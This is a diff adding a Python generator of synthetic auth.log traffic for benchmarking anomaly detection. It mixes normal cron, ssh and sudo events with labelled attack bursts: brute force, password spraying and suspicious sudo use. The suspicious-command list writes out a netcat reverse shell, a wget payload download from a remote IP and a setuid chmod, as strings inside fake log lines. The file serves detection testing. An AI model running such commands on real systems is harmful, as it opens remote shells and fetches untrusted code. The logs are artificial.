@@ -0,0 +1,179 @@
+# benchmarks/synth_authlog.py
+
+"""
+Seeded generator for realistic auth.log traffic (sshd / CRON / PAM / sudo).
+
+Each event comes back both as the raw syslog line (what ingest.py ships)
+and as the record the ES syslog_pipeline would produce from it, plus a
+`label` (1 = part of an injected attack). Same seed -> same output.
+
+    python -m benchmarks.synth_authlog --lines 100000 --anomaly-rate 0.02 --out logs/synth.log
+"""
+
+import argparse
+import random
+from datetime import datetime, timedelta, timezone
+
+USERS = ["root", "ubuntu", "admin", "deploy", "alice", "bob", "carol", "jenkins", "postgres", "git"]
+SPRAY_USERS = ["admin", "test", "oracle", "guest", "user", "ftp", "pi", "support",
+               "mysql", "www", "nagios", "hadoop", "ubnt", "tomcat", "student"]
+COMMANDS = ["/usr/bin/apt update", "/bin/systemctl restart nginx", "/usr/bin/tail -f /var/log/syslog",
+            "/usr/bin/docker ps", "/bin/journalctl -u ssh"]
+ODD_COMMANDS = ["/bin/bash", "/usr/bin/passwd root", "/bin/nc -e /bin/sh 10.0.0.1 4444",
+                "/usr/bin/wget http://203.0.113.7/x.sh", "/bin/chmod 4755 /tmp/.x"]
+
+MEAN_BURST = 30
+
+
+def _ip(rng, private=False):
+    if private:
+        return f"10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+    return f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+
+
+class AuthLogGenerator:
+
+    def __init__(self, seed=42, hosts=5, anomaly_rate=0.02,
+                 events_per_sec=5.0, start=None):
+        self.rng = random.Random(seed)
+        self.anomaly_rate = anomaly_rate
+        self.events_per_sec = events_per_sec
+        self.now = start or datetime(2025, 11, 30, 6, 0, 0, tzinfo=timezone.utc)
+        self.pid = 20000
+
+        self.hosts = [f"ip-172-31-{self.rng.randint(0, 255)}-{self.rng.randint(1, 254)}"
+                      for _ in range(hosts)]
+        self.office_ips = [_ip(self.rng, private=True) for _ in range(20)]
+        self.scanner_ips = [_ip(self.rng) for _ in range(200)]
+        self.attack_ips = [_ip(self.rng) for _ in range(10)]
+
+        self._burst = []   # pending attack events
+
+    # -----------------------------------------------------
+    # Event templates: (process, message)
+    # -----------------------------------------------------
+    def _normal(self):
+        r = self.rng
+        user = r.choice(USERS)
+        ip = r.choice(self.office_ips)
+        port = r.randint(30000, 65000)
+        k = r.random()
+
+        if k < 0.25:
+            return "CRON", "pam_unix(cron:session): session opened for user root by (uid=0)"
+        if k < 0.50:
+            return "CRON", "pam_unix(cron:session): session closed for user root"
+        if k < 0.60:
+            method = r.choice(["password", "publickey"])
+            return "sshd", f"Accepted {method} for {user} from {ip} port {port} ssh2"
+        if k < 0.66:
+            return "sshd", f"pam_unix(sshd:session): session opened for user {user} by (uid=0)"
+        if k < 0.72:
+            return "sshd", f"Received disconnect from {ip}: 11: disconnected by user"
+        if k < 0.80:
+            return "sshd", f"Connection closed by {r.choice(self.scanner_ips)} [preauth]"
+        if k < 0.86:
+            return "sshd", f"Did not receive identification string from {r.choice(self.scanner_ips)}"
+        if k < 0.90:
+            return "sshd", f"Failed password for {user} from {ip} port {port} ssh2"
+        if k < 0.95:
+            return "sudo", (f"{user} : TTY=pts/{r.randint(0, 4)} ; PWD=/home/{user} ; "
+                            f"USER=root ; COMMAND={r.choice(COMMANDS)}")
+        return "sudo", f"pam_unix(sudo:session): session opened for user root by {user}(uid={r.randint(1000, 1010)})"
+
+    def _start_burst(self):
+        """Queue a multi-event attack: brute force, spraying or odd sudo."""
+        r = self.rng
+        ip = r.choice(self.attack_ips)
+        kind = r.random()
+        events = []
+
+        if kind < 0.45:
+            user = r.choice(USERS[:3])
+            for _ in range(r.randint(5, 30)):
+                port = r.randint(30000, 65000)
+                events.append(("sshd", f"Failed password for {user} from {ip} port {port} ssh2"))
+                events.append(("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 "
+                                       f"euid=0 tty=ssh ruser= rhost={ip}  user={user}"))
+        elif kind < 0.85:
+            for user in r.sample(SPRAY_USERS, r.randint(5, len(SPRAY_USERS))):
+                port = r.randint(30000, 65000)
+                events.append(("sshd", f"Invalid user {user} from {ip}"))
+                events.append(("sshd", f"input_userauth_request: invalid user {user} [preauth]"))
+                events.append(("sshd", f"Failed password for invalid user {user} from {ip} port {port} ssh2"))
+        else:
+            user = r.choice(USERS[3:])
+            events.append(("sshd", f"Accepted password for {user} from {ip} port {r.randint(30000, 65000)} ssh2"))
+            events.append(("sudo", f"{user} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND={r.choice(ODD_COMMANDS)}"))
+
+        self._burst = events
+
+    # -----------------------------------------------------
+    # Public API
+    # -----------------------------------------------------
+    def events(self, n):
+        """Yield n (raw_line, record) pairs in timestamp order."""
+        r = self.rng
+        # Attack events come in bursts of ~MEAN_BURST events; start bursts
+        # often enough that roughly anomaly_rate of all events are labelled.
+        rate = self.anomaly_rate
+        burst_p = rate / (MEAN_BURST * (1 - rate) + rate) if rate < 1 else 1.0
+
+        for _ in range(n):
+            if self._burst:
+                (process, msg), label = self._burst.pop(0), 1
+                self.now += timedelta(seconds=r.uniform(0.05, 1.5))
+            else:
+                if r.random() < burst_p:
+                    self._start_burst()
+                    (process, msg), label = self._burst.pop(0), 1
+                else:
+                    process, msg = self._normal()
+                    label = 0
+                self.now += timedelta(seconds=r.expovariate(self.events_per_sec))
+
+            self.pid += r.randint(1, 3)
+            host = r.choice(self.hosts)
+            # syslog pads the day with a space: "Nov  3 06:39:00"
+            ts = f"{self.now:%b} {self.now.day:2d} {self.now:%H:%M:%S}"
+            line = f"{ts} {host} {process}[{self.pid}]: {msg}"
+
+            record = {
+                "raw_log": line,
+                "timestamp": ts,
+                "hostname": host,
+                "process": process,
+                "pid": str(self.pid),
+                "message": msg,
+                "@timestamp": self.now.strftime("%Y-%m-%dT%H:%M:%S.") +
+                              f"{self.now.microsecond // 1000:03d}Z",
+                "label": label,
+            }
+            yield line, record
+
+    def records(self, n):
+        return [rec for _, rec in self.events(n)]
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Generate a synthetic auth.log")
+    parser.add_argument("--lines", type=int, default=100000)
+    parser.add_argument("--anomaly-rate", type=float, default=0.02)
+    parser.add_argument("--hosts", type=int, default=5)
+    parser.add_argument("--seed", type=int, default=42)
+    parser.add_argument("--out", default="logs/synth_auth.log")
+    args = parser.parse_args()
+
+    gen = AuthLogGenerator(seed=args.seed, hosts=args.hosts, anomaly_rate=args.anomaly_rate)
+
+    anomalies = 0
+    with open(args.out, "w") as f:
+        for line, rec in gen.events(args.lines):
+            f.write(line + "\n")
+            anomalies += rec["label"]
+
+    print(f"[SYNTH] Wrote {args.lines} lines ({anomalies} anomalous) to {args.out}")
+
+
+if __name__ == "__main__":
+    main()